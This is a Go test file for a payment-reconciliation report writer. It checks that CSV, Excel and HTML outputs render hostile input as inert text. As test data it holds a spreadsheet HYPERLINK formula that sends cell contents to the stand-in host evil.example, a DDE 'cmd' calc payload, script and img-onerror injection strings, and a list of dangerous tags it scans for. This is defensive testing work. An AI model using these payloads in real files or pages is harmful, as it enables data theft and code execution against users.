package report

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"tieout/internal/fault"
	"tieout/schemas"
)

var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠A1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1", "=cmd|' /C calc'!A0",
}

// hostile is a report with s wherever foreign text can stand.
func hostile(s string) *schemas.RunReport {
	l, c := ours(schemas.Payment, s, 100, schemas.Success), theirs(schemas.Payment, s, 101, schemas.Success)
	for _, r := range []*schemas.Record{l, c} {
		r.StatusRaw, r.Bank, r.Product, r.Remark, r.TradeType, r.ChannelRef, r.Source = s, s, s, s, s, s, s
	}
	d := difference(schemas.AmountMismatch, "amount", l, c, decided("P2", schemas.ActionManual, 2))
	d.Reason, d.CaseID, d.Account, d.Decision.Why, d.Decision.Cell = s, s, s, s, s
	d.Nearest = &schemas.Candidate{Record: *c, Failed: s}
	r := reportOf([]*schemas.Difference{d})
	r.Why = s
	r.Cases[0].Owner, r.Cases[0].Reason, r.Cases[0].Flag = s, s, s
	reject(r, []schemas.Reject{{File: s, Field: s, Value: s, Reason: s}})
	r.Fixes = []schemas.FixDone{{Fix: schemas.Fix{MerchantRef: s, Maker: s, Currency: "CNY"}, Result: schemas.FixResult{State: s, Reason: s, TxnID: s}}}
	r.Proofs = []schemas.Proof{{Name: "trailer.rows", OK: true, Want: s, Got: s, Note: s}}
	r.Files = []schemas.FetchedFile{{FileUsed: schemas.FileUsed{Name: s}, Place: s}}
	r.Changes = []string{s}
	r.Versions = map[string]string{s: s}
	return r
}

func TestAttack08_FormulasAreText(t *testing.T) {
	for _, s := range formulas {
		dir := write(t, hostile(s), both...)
		for _, name := range []string{differencesFile, rejectsFile} {
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(content(t, dir, name), bom))).ReadAll()
			if err != nil {
				t.Fatalf("%q: %s: %v", s, name, err)
			}
			seen := false
			for i, row := range rows[1:] {
				for j, cell := range row {
					seen = seen || strings.HasPrefix(cell, "'")
					if formula(cell) && !isNumber(cell) {
						t.Errorf("%q: %s row %d column %s holds the formula %q", s, name, i+1, rows[0][j], cell)
					}
				}
			}
			if !seen {
				t.Errorf("%q: %s lacks the text", s, name)
			}
		}
		f := openBook(t, dir, workbookFile)
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			for y, row := range rows {
				for x := range row {
					cell, err := excelize.CoordinatesToCellName(x+1, y+1)
					if err != nil {
						t.Fatal(err)
					}
					if text, err := f.GetCellFormula(sheet, cell); err != nil || text != "" && !strings.HasPrefix(text, "SUMIFS(") {
						t.Errorf("%q: %s!%s holds the formula %q (%v)", s, sheet, cell, text, err)
					}
				}
			}
		}
	}
}

// isNumber tells the numbers that we write ourselves from formulas.
func isNumber(s string) bool {
	return s != "" && strings.Trim(s, "-0123456789.") == "" && !strings.Contains(s[1:], "-")
}

// A round trip: what a person reads in the CSV file is the text, behind an
// apostrophe if need be.
func TestAttack08_RoundTrip(t *testing.T) {
	for _, s := range []string{"=1+1", "plain", "two\nlines", `quo"ted`, "a,b", "渠道"} {
		want := fault.Safe(s, maxText)
		if got := strings.TrimPrefix(csvText(s), "'"); got != want {
			t.Errorf("csvText(%q) = %q, want %q", s, got, want)
		}
	}
}

func TestAttack09_InvisibleTextIsShown(t *testing.T) {
	for in, want := range map[string]string{
		"ORD\u202e1001": `ORD\u202e1001`, "ORD\u200b1": `ORD\u200b1`, "a\x00b": `a\u0000b`, "GBK\xd6\xd0": `GBK\xd6\xd0`, "\xc0\xafroot": `\xc0\xafroot`, "x\u2066y": `x\u2066y`,
	} {
		dir := write(t, hostile(in), both...)
		for _, name := range []string{"report.zh.html", "report.en.html", differencesFile, rejectsFile} {
			body := content(t, dir, name)
			if strings.Contains(body, in) || !strings.Contains(body, want) {
				t.Errorf("%s shows %q as it is, or not as %s", name, in, want)
			}
		}
	}
}

func TestAttack10_MarkupIsText(t *testing.T) {
	for _, s := range []string{`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</style><script>alert(1)</script>`, `javascript:alert(1)`, `{{.}}`, `<!--`, `]]>`} {
		r := hostile(s)
		r.Account, r.Channel, r.Merchant, r.RunID, r.Zone = s, s, s, s, s
		dir := write(t, r, both...)
		for _, name := range []string{"report.zh.html", "report.en.html"} {
			mustBeInert(t, content(t, dir, name), s)
		}
		days := t.TempDir()
		if _, err := WriteDay(t.Context(), days, &schemas.DayReport{Date: day, Verdict: schemas.Breaks, Runs: []*schemas.RunReport{r}, Missing: []string{s}}, both); err != nil {
			t.Fatal(err)
		}
		mustBeInert(t, content(t, days, "index.zh.html"), s)
	}
}

// mustBeInert looks for anything in a page that could run, load or send.
func mustBeInert(t *testing.T, page, s string) {
	t.Helper()
	low := strings.ToLower(page)
	for _, bad := range []string{"<script", "<img", "<iframe", "<object", "<link", "<form", "<base", "onerror=alert(1)>", `href="javascript:`, "<!--"} {
		if strings.Contains(low, bad) {
			t.Errorf("with %q the page holds %s", s, bad)
		}
	}
	if n := strings.Count(low, "<style>"); n != 1 {
		t.Errorf("with %q the page has %d styles, want 1", s, n)
	}
	if !strings.Contains(page, `http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src &#39;sha256-`) {
		t.Errorf("with %q the page has no policy", s)
	}
}
